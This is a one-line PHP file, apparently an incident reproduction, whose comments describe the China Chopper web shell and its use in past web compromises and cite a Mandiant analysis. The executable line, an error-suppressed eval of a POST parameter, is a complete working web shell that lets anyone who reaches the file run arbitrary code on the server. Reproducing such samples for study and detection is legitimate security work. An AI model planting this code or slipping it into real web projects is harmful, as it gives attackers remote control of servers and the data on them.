<?php
// Incident: the China Chopper web shell, documented by FireEye in August 2013 and still
// planted after web compromises (e.g. the 2021 Exchange ProxyLogon intrusions): a one-line
// PHP file that evaluates a POST parameter, dropped among legitimate uploads.
// Reference: https://www.mandiant.com/resources/blog/the-little-malware-that-could-detecting-and-defeating-the-china-chopper-web-shell
// Reproduction (own code).
@eval($_POST['z0']);
